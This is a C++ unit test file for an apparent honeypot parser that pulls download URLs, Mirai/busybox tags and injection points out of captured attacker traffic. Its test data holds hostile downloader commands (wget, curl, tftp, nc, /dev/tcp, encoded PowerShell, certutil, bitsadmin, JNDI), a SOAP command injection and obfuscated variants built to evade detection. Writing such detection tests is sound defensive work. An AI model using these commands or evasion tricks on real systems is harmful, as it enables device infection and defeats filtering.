#include "payload/reading.hpp"

#include <gtest/gtest.h>

#include <map>

#include "payload/downloads.hpp"
#include "payload/recogniser.hpp"

namespace nightjar {
namespace {

class ReadingTest : public ::testing::Test {
 protected:
  ReadingTest() : recogniser_(Recogniser::make(SignatureSet::load().value()).value()) {}

  Reading read(std::string client, bool ended = true, std::uint16_t port = 23) {
    Conversation conversation;
    conversation.port = port;
    conversation.client = std::move(client);
    conversation.turns = {{true, static_cast<std::uint32_t>(conversation.client.size())}};
    conversation.ended = ended;
    return read_conversation(conversation, recogniser_);
  }
  std::string urls_of_datagram(const std::string& text) {
    return read_datagram({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()}, 53413, recogniser_).urls;
  }
  Recogniser recogniser_;
};

TEST_F(ReadingTest, NamesEachTagAndAddressOnce) {
  const Reading reading =
      read("wget http://192.0.2.1/a; wget http://192.0.2.1/ab; wget http://192.0.2.1/a\n/bin/busybox MIRAI\n/bin/busybox MIRAI\n");
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a http://192.0.2.1/ab");
  EXPECT_EQ(reading.tags.find("busybox-token"), reading.tags.rfind("busybox-token"));
  EXPECT_NE(reading.tags.find("busybox-token"), std::string::npos);
}

TEST_F(ReadingTest, AnAddressAtTheEndIsCompleteOnlyIfTheConversationWasOver) {
  EXPECT_EQ(read("wget http://192.0.2.1/a", true).urls, "http://192.0.2.1/a");
  EXPECT_EQ(read("wget http://192.0.2.1/a", false).urls, "") << "it may have been http://192.0.2.1/abc";
}

TEST_F(ReadingTest, AnInjectionThatNoSignatureKnowsSaysSo) {
  const Reading reading =
      read("POST /unheard-of HTTP/1.1\r\nSOAPAction: \"urn:x#DoIt\"\r\n\r\n<NewThing>$(wget http://192.0.2.1/a)</NewThing>", true, 5000);
  EXPECT_EQ(reading.injections, "DoIt\tNewThing\t0");
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a");
}

TEST_F(ReadingTest, ADatagramIsReadTheSameWay) {
  const std::string text = "AA cd /tmp; wget http://192.0.2.1/a";
  const Reading reading = read_datagram({reinterpret_cast<const std::uint8_t*>(text.data()), text.size()}, 53413, recogniser_);
  EXPECT_EQ(reading.urls, "http://192.0.2.1/a");
}

TEST_F(ReadingTest, ADatagramMayUseAnyTool) {
  const std::map<DownloadTool, std::string> samples = {
      {DownloadTool::wget, "wget 192.0.2.7/x1"},
      {DownloadTool::curl, "curl 192.0.2.7/x1"},
      {DownloadTool::tftp, "tftp -g -r x1 192.0.2.7"},
      {DownloadTool::ftpget, "ftpget 192.0.2.7 x1 x1"},
      {DownloadTool::ftp, "ftp ftp://192.0.2.7/x1"},
      {DownloadTool::netcat, "nc 192.0.2.7 8080"},
      {DownloadTool::dev_tcp, "cat </dev/tcp/192.0.2.7/8080"},
      {DownloadTool::lwp_download, "lwp-download http://192.0.2.7/x1"},
      {DownloadTool::fetch, "fetch http://192.0.2.7/x1"},
      {DownloadTool::powershell, "powershell -e aAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4ANwAvAHgAMQA="},
      {DownloadTool::certutil, "certutil -urlcache -f http://192.0.2.7/x1 x1"},
      {DownloadTool::bitsadmin, "bitsadmin /transfer x http://192.0.2.7/x1 x1"},
      {DownloadTool::script, "python -c 'import urllib; urllib.urlopen(\"http://192.0.2.7/x1\")'"},
      {DownloadTool::jndi, "${jndi:ldap://192.0.2.7/x1}"},
  };
  // jndi is the last: a new tool needs a sample.
  for (std::size_t tool = 0; tool <= static_cast<std::size_t>(DownloadTool::jndi); ++tool) {
    const auto sample = samples.find(static_cast<DownloadTool>(tool));
    ASSERT_NE(sample, samples.end()) << tool;
    EXPECT_NE(urls_of_datagram(sample->second).find("192.0.2.7"), std::string::npos) << sample->second;
  }
}

TEST_F(ReadingTest, ADisguiseHidesNoCommandOfADatagram) {
  const std::vector<std::pair<std::string, std::string>> disguises = {
      {";wg\\et 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";wg''et 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";w\"ge\"t 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";wg\\\net 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";c\\url 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";w%67et 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {"GET /?a=w%2567et%2520192.0.2.7/x1 HTTP/1.1\r\n\r\n", "http://192.0.2.7/x1"},
      {";w&#103;et 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {"{\"a\": \"\\u0077\\u0067et 192.0.2.7/x1\"}", "http://192.0.2.7/x1"},
      {";`echo -e '\\167\\147et'` 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";w`echo ge`t 192.0.2.7/x1", "http://192.0.2.7/x1"},
      {";nc\t192.0.2.7 8080", "tcp://192.0.2.7:8080"},
      {";nc>x1 192.0.2.7 8080", "tcp://192.0.2.7:8080"},
      {";ncat\t192.0.2.7 8080", "tcp://192.0.2.7:8080"},
      {"{\"a\": \";nc\\t192.0.2.7 8080;\"}", "tcp://192.0.2.7:8080"},
      {"a=1;nc+192.0.2.7+8080", "tcp://192.0.2.7:8080"},
  };
  for (const auto& [text, url] : disguises) EXPECT_EQ(urls_of_datagram(text), url) << text;
}

TEST_F(ReadingTest, OfNothingIsNothing) {
  const Reading reading = read("");
  EXPECT_EQ(reading.tags + reading.urls + reading.logins + reading.commands + reading.injections, "");
}

}  // namespace
}  // namespace nightjar
